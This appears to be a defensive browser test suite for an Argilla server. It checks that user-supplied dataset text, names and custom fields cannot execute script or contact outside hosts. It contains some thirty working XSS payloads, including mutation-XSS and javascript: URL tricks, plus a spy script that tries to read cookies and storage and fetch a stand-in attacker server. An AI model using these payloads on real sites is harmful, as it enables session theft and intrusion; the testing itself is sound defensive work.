"""A lead writes what a browser would run, fetch or follow, wherever Argilla takes a text; the owner opens the page."""

from __future__ import annotations

import re
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from chairs import Chairs, People, Target
from playwright.sync_api import expect
from served import served_home
from watched_page import sign_in

from curation import embedded

pytestmark = [pytest.mark.server, pytest.mark.browser]
of_one = pytest.mark.parametrize("target", ["sqlite"], indirect=True)  # the page is the same on either database
expect.set_options(timeout=20_000)

RAN = "window.top.ran=1"
TEXTS = {
    "script": "<script>RAN</script>",
    "script of the attacker": '<script src="ELSEWHERE/x.js"></script>',
    "image": '<img src="ELSEWHERE/x.png" onerror="RAN" onload="RAN">',
    "image without quotes": "<img src=x onerror=RAN>",
    "drawing": '<svg onload="RAN"><circle r=9 /></svg>',
    "script in a drawing": "<svg><script>RAN</script><animate onbegin=RAN attributeName=x dur=1s /></svg>",
    "drawing that links": '<svg><a xlink:href="javascript:RAN"><text y=20>click</text></a></svg>',
    "frame": '<iframe srcdoc="<script>RAN</script>"></iframe>',
    "frame of a script": '<iframe src="javascript:RAN"></iframe>',
    "frame elsewhere": '<iframe src="ELSEWHERE/frame"></iframe>',
    "link": '<a href="javascript:RAN" style="position:fixed;inset:0;z-index:9999">click</a>',
    "link in disguise": '<a href=" java\tscript:RAN">click</a>',
    "style": "<style>@import url(ELSEWHERE/x.css); body{background:url(ELSEWHERE/b.png)}</style>",
    "style of an element": '<div style="background:url(ELSEWHERE/b.png);position:fixed;inset:0">over it</div>',
    "form": '<form action="ELSEWHERE/form" id=f><input name=password autofocus onfocus=RAN><button>x</button></form>',
    "button": '<button formaction="javascript:RAN" form=f autofocus onfocus="RAN">Submit</button>',
    "refresh": '<meta http-equiv="refresh" content="0;url=ELSEWHERE/refresh">',
    "base": '<base href="ELSEWHERE/">',
    "object": '<object data="javascript:RAN"></object><embed src="ELSEWHERE/embed">',
    "stylesheet": '<link rel="stylesheet" href="ELSEWHERE/x.css">',
    "nested": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=RAN>">',
    "nested otherwise": '<svg></p><style><a id="</style><img src=1 onerror=RAN>">',
    "no script": '<noscript><p title="</noscript><img src=x onerror=RAN>">',
    "details": "<details open ontoggle=RAN><summary>x</summary></details>",
    "film": '<video autoplay><source onerror=RAN src="ELSEWHERE/f"></video><audio src="ELSEWHERE/a" onerror=RAN>',
    "template": "{{constructor.constructor('RAN')()}} ${RAN} <%= RAN %>",
    "a page": "<div><b>bold</b><script>RAN</script></div>",
    "names of the page": "<a id=__NUXT__ name=app>x</a><form id=__nuxt><input name=attributes></form>",
    "markdown link": "[click](javascript:RAN) ![x](ELSEWHERE/m.png) <javascript:RAN>",
    "markdown code": '```"><img/src/onerror=RAN>\nx\n``` $\\href{javascript:RAN}{x}$ $\\includegraphics{ELSEWHERE/k}$',
}

DRAWING = f"data:image/svg,<svg xmlns='http://www.w3.org/2000/svg' onload='{RAN}'/>"

SUSPECTS = """() => {
  const found = []
  const frames = [...document.querySelectorAll('iframe')]
  for (const element of document.querySelectorAll('*')) for (const {name, value} of element.attributes) {
    if (/^on/i.test(name)) found.push(name)
    const runs = /^[\\x00-\\x1f]*(javascript|vbscript):/i.test(value.replace(/\\s/g, ''))
    if (runs && name != 'value') found.push(value)
  }
  const ours = name => new URL(name, location.href).origin == location.origin
  for (const form of document.querySelectorAll('form[action]')) if (!ours(form.action)) found.push('form')
  for (const link of document.querySelectorAll('link[href]')) if (!ours(link.href)) found.push('stylesheet')
  for (const script of document.querySelectorAll('script[src]')) if (!ours(script.src)) found.push('script')
  if (document.querySelectorAll('base').length != 1 || !ours(document.baseURI)) found.push('base')
  if (document.querySelector('meta[http-equiv]')) found.push('meta')
  if (frames.length) found.push('frame')
  if (document.querySelector('object, embed')) found.push('object')
  for (const e of document.querySelectorAll('.markdown-render *'))
    if (getComputedStyle(e).position == 'fixed') found.push('over the page')
  return found
}"""


class Elsewhere:
    """A server of the attacker's; whatever asks it for something has been told to by a text."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815 (the names of the standard library)

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    @contextmanager
    def listening(self) -> Iterator[Elsewhere]:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        yield self
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with Elsewhere().listening() as listening:
        yield listening


def payloads(elsewhere: Elsewhere) -> list[str]:
    """Every text, each with a mark of its own so that it can be found on a page."""
    return [
        f"{number:02d}~ {text.replace('RAN', RAN).replace('ELSEWHERE', elsewhere.url)}"
        for number, text in enumerate(TEXTS.values())
    ]


def pushed(chairs: Chairs, texts: list[str]) -> str:
    """A data set of the lead's, made by Argilla's own routes, in which every text is a hostile one."""
    lead, name = chairs.lead, f"{uuid.uuid4().hex[:6]} <img src=x onerror={RAN}>"
    distribution = {"strategy": "overlap", "min_submitted": 2}
    body = {"name": name, "workspace_id": chairs.ids["workspace_id"], "guidelines": "\n\n".join(texts)[:9000]}
    dataset = lead.made("/datasets", distribution=distribution, **body)["id"]
    path = f"/datasets/{dataset}"
    fields = {
        "plain": {"type": "text"},
        "marked": {"type": "text", "use_markdown": True},
        "talk": {"type": "chat", "use_markdown": False},
        "marked_talk": {"type": "chat", "use_markdown": True},
        "spans": {"type": "text"},
        "photo": {"type": "image"},
    }
    for (field, settings), title in zip(fields.items(), texts, strict=False):
        lead.made(f"{path}/fields", name=field, title=title, required=field == "plain", settings=settings)
    questions = [
        lead.made(f"{path}/questions", name=f"q{number}", title=text, description=text, settings={"type": "text"})
        for number, text in enumerate(texts)
    ]
    options = [{"value": text[:200], "text": text, "description": text} for text in texts]
    for kind in ("label_selection", "multi_label_selection", "ranking"):
        lead.made(
            f"{path}/questions", name=kind, title=kind, required=True, settings={"type": kind, "options": options}
        )
    spans = {"type": "span", "field": "spans", "options": options}
    lead.made(f"{path}/questions", name="span", title=texts[0], settings=spans)
    for number, text in enumerate(texts[:4]):
        shown = {"visible_for_annotators": True, "settings": {"type": "terms"}}
        lead.made(f"{path}/metadata-properties", name=f"m{number}", title=text, **shown)
    lead.ask("PUT", f"{path}/publish").raise_for_status()
    records = [record(text, questions) for text in texts]
    lead.made(f"{path}/records/bulk", items=records)
    return str(dataset)


def record(text: str, questions: list[dict[str, Any]]) -> dict[str, Any]:
    talk = [{"role": text[:20], "content": text}, {"role": "user", "content": text}]
    return {
        "external_id": text,
        "fields": {"plain": text, "marked": text, "talk": talk, "marked_talk": talk, "spans": text, "photo": DRAWING},
        "metadata": {f"m{number}": text for number in range(4)},
        "suggestions": [{"question_id": question["id"], "value": text} for question in questions[:3]],
    }


@pytest.fixture
def page(chairs: Chairs, browser: Any) -> Iterator[Any]:
    """The owner, signed in."""
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.on("dialog", lambda dialog: dialog.dismiss())
    sign_in(page, chairs.target.url, chairs.owner.name, chairs.target.password)
    yield page
    context.close()


def check(page: Any, elsewhere: Elsewhere, url: str) -> None:
    """What the attacker wanted has not happened."""
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert page.evaluate(SUSPECTS) == []
    assert elsewhere.asked == []
    assert page.url.startswith(url)


def read(page: Any) -> str:
    """The text of a page, whatever its blanks."""
    return re.sub(r"\s+", " ", page.locator("body").inner_text())


@of_one
def test_a_text_is_shown_and_does_nothing(chairs: Chairs, elsewhere: Elsewhere, page: Any) -> None:
    texts = payloads(elsewhere)
    dataset, url = pushed(chairs, texts), chairs.target.url
    for number in range(1, len(texts) + 1):
        page.goto(f"{url}/dataset/{dataset}/annotation-mode?page={number}&status=pending")
        expect(page.locator(".record").first).to_be_visible()
        check(page, elsewhere, url)
        shown = page.locator("[id^=fields-content]").first.inner_text()
        assert re.sub(r"\s+", " ", shown).strip() in [re.sub(r"\s+", " ", text) for text in texts]
        plain, talk = read(page), page.locator(".chat__bubble > span").first.inner_text()
        assert re.sub(r"\s+", " ", talk).strip() == re.sub(r"\s+", " ", shown).strip()
    for text in texts[:6]:
        assert re.sub(r"\s+", " ", text) in plain  # titles of fields and questions, and options
    page.locator(".wrapper__left .panel__header").click()
    check(page, elsewhere, url)


@of_one
def test_names_are_shown_and_do_nothing(chairs: Chairs, elsewhere: Elsewhere, page: Any) -> None:
    texts = payloads(elsewhere)
    dataset, url = pushed(chairs, texts), chairs.target.url
    name = chairs.owner.ask("GET", f"/datasets/{dataset}").json()["name"]
    page.goto(url)
    expect(page.get_by_text(name).first).to_be_visible()
    check(page, elsewhere, url)
    page.goto(f"{url}/dataset/{dataset}/settings")
    expect(page.get_by_text(name).first).to_be_visible()
    for tab in ("Fields", "Questions", "Metadata", "Danger zone"):
        page.locator(".tab__button").get_by_text(tab, exact=True).click()
        check(page, elsewhere, url)
    page.get_by_role("button", name="Delete").first.click()
    expect(page.locator("strong").get_by_text(name).last).to_be_visible()
    check(page, elsewhere, url)


@of_one
@pytest.mark.parametrize("of", ["first_name", "last_name"])
def test_a_name_of_a_person_does_nothing(chairs: Chairs, elsewhere: Elsewhere, browser: Any, of: str) -> None:
    username, password = f"eve-{uuid.uuid4().hex[:6]}", uuid.uuid4().hex
    names = {"first_name": "Eve", of: f'<img src="{elsewhere.url}/x" onerror="{RAN}">'}
    chairs.owner.made("/users", username=username, password=password, role="annotator", **names)
    page = browser.new_page()
    sign_in(page, chairs.target.url, username, password)
    page.goto(f"{chairs.target.url}/user-settings")
    expect(page.get_by_text(names[of]).first).to_be_visible()
    check(page, elsewhere, chairs.target.url)
    page.close()


@of_one
def test_no_script_runs_but_the_pages_own_even_were_one_let_in(chairs: Chairs, elsewhere: Elsewhere, page: Any) -> None:
    def puts(tag: str, **attributes: str) -> None:
        page.evaluate(
            "([tag, attributes]) => document.body.append(Object.assign(document.createElement(tag), attributes))",
            [tag, attributes],
        )

    puts("script", textContent=RAN)
    puts("script", src=f"{elsewhere.url}/x.js")
    puts("div", innerHTML=f"<img src=x onerror='{RAN}'><form action='{elsewhere.url}/form' id=out></form>")
    puts("iframe", srcdoc=f"<script>{RAN}</script>")
    puts("img", src=f"{elsewhere.url}/x.png")
    page.evaluate("document.getElementById('out').submit()")
    page.evaluate("url => { fetch(url).catch(() => {}); navigator.sendBeacon(url) }", elsewhere.url)
    page.evaluate("text => { setTimeout(text) }", RAN)
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran") is None
    assert elsewhere.asked == []


def test_every_address_has_a_strict_policy(chairs: Chairs) -> None:
    for path in (
        "/",
        "/sign-in",
        "/dataset/x/annotation-mode",
        "/api/v1/me",
        "/api/v1/docs",
        "/_nuxt/x",
        "/api/v1/nobody",
    ):
        headers = chairs.stranger.get(path).headers
        policy = dict(each.strip().split(" ", 1) for each in headers["Content-Security-Policy"].split(";"))
        assert "unsafe" not in policy["script-src"]
        assert (policy["object-src"], policy["frame-ancestors"], policy["form-action"]) == (
            "'none'",
            "'none'",
            "'self'",
        )
        assert policy["base-uri"] == "'self'"
        assert headers["Cache-Control"] == ("no-store" if "/api/" in path else "no-cache")


def test_an_address_writes_nothing_into_a_page(chairs: Chairs) -> None:
    query = {"dataset_name": "<script>1</script>", "dataset_id": "`-1-`", "user_name": "x"}
    assert "<script>1</script>" not in chairs.stranger.get("/share-your-progress", params=query).text
    assert "<script" not in chairs.stranger.get("/api/v1/docs").text
    assert "<script" not in chairs.stranger.get("/api/v1/redoc").text


@pytest.mark.parametrize("chair", ["owner", "lead", "ana"])
def test_the_token_of_a_page_brings_no_key(chairs: Chairs, chair: str) -> None:
    person = getattr(chairs, chair)
    form = {"username": person.name, "password": person.password}
    token = chairs.stranger.post("/api/v1/token", data=form).raise_for_status().json()["access_token"]
    workspace = f"/workspaces/{chairs.ids['workspace_id']}/users"
    keys = {chairs.owner.key, chairs.lead.key, chairs.ana.key, chairs.ben.key}
    for also in ({}, {"X-Argilla-Api-Key": "none"}, {"X-Argilla-Api-Key": ""}):
        with chairs.target.client(Authorization=f"Bearer {token}", **also) as http:
            for path in ("/me", "/users", f"/users/{chairs.ana.user_id}", workspace):
                found = http.get(f"/api/v1{path}")
                assert [key for key in keys if key in found.text] == []
            assert http.get("/api/v1/me").status_code in (200, 401)
    assert person.ask("GET", "/me").json()["api_key"] == person.key


CUSTOM = {"type": "custom", "template": "<p>x</p>", "advanced_mode": True}


def test_a_custom_field_is_refused(chairs: Chairs) -> None:
    new = chairs.owner.made("/datasets", name=f"c-{uuid.uuid4().hex}", workspace_id=chairs.ids["workspace_id"])["id"]
    for person in (chairs.lead, chairs.owner):
        body = {"name": "page", "title": "Page", "settings": CUSTOM}
        answer = person.ask("POST", f"/datasets/{new}/fields", json=body)
        assert answer.status_code == 403
        assert "--allow-custom-fields" in answer.text
        changed = person.ask("PATCH", f"/fields/{chairs.ids['field_id']}", json={"settings": CUSTOM})
        assert changed.status_code == 403


SPY = """<p id=told>page of its own</p><script>
  const tried = [() => parent.localStorage.length, () => parent.document.body, () => localStorage.length,
    () => document.cookie, () => top.location = 'ELSEWHERE/top',
    () => open('ELSEWHERE/popup'), () => fetch('ELSEWHERE/fetch'), () => fetch('/api/v1/me'),
    () => document.body.append(Object.assign(new Image(), {src: 'ELSEWHERE/x.png'})), () => parent.ran = 1]
  for (const each of tried) try { each() } catch {}
</script>"""


@pytest.fixture(scope="module")
def where_allowed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Target, People]]:
    """A server whose owner has allowed custom fields."""
    home = tmp_path_factory.mktemp("allowed") / "home"
    embedded.allow(home, custom_fields=True)
    with served_home(home) as target, People.made(target) as people:
        yield target, people


@pytest.mark.parametrize("advanced", [True, False])
def test_a_custom_field_that_is_allowed_is_alone(
    where_allowed: tuple[Target, People], elsewhere: Elsewhere, browser: Any, advanced: bool
) -> None:
    target, people = where_allowed
    chairs = Chairs.taken(target, people)
    lead, ids = chairs.lead, chairs.ids
    path = f"/datasets/{lead.made('/datasets', name='pages', workspace_id=ids['workspace_id'])['id']}"
    template = SPY.replace("ELSEWHERE", elsewhere.url) if advanced else "page of its own {{json record.fields.page}}"
    settings = {**CUSTOM, "template": template, "advanced_mode": advanced}
    lead.made(f"{path}/fields", name="page", title="Page", settings=settings)
    lead.made(f"{path}/questions", name="q", title="Q", required=True, settings={"type": "text"})
    lead.ask("PUT", f"{path}/publish").raise_for_status()
    lead.made(f"{path}/records/bulk", items=[{"fields": {"page": {"a": "</script><script>top.ran=1</script>"}}}])
    page = browser.new_page()
    sign_in(page, target.url, chairs.owner.name, target.password)
    page.goto(f"{target.url}{path.replace('datasets', 'dataset')}/annotation-mode")
    expect(page.frame_locator("iframe").get_by_text("page of its own")).to_be_visible()
    told = page.frames[1].evaluate("document.querySelector('pre, #told').textContent")
    assert told == "page of its own" if advanced else "top.ran=1" in told  # the record reached it as data
    page.frames[1].evaluate("url => setTimeout(() => location.assign(url + '/here'))", elsewhere.url)
    page.wait_for_timeout(1000)
    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    assert page.evaluate("window.ran") is None
    assert elsewhere.asked == []
    assert page.url.startswith(target.url)
    page.close()
